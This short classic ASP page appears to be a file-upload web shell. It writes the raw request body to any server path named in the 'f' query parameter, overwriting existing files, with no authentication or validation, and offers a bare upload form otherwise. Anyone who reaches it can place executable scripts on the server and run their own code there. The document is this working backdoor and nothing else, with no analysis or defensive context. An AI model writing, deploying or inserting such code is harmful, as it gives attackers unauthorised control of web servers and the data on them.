<%
Dim bin, stm, fname
If Request.TotalBytes > 0 Then
    bin = Request.BinaryRead(Request.TotalBytes)
    fname = Request.QueryString("f")
    Set stm = Server.CreateObject("ADODB.Stream")
    stm.Type = 1
    stm.Open
    stm.Write bin
    stm.SaveToFile Server.MapPath(fname), 2
    stm.Close
    Response.Write "saved " & fname
Else
%>
<form method="post" enctype="application/octet-stream"><input type="submit"></form>
<% End If %>
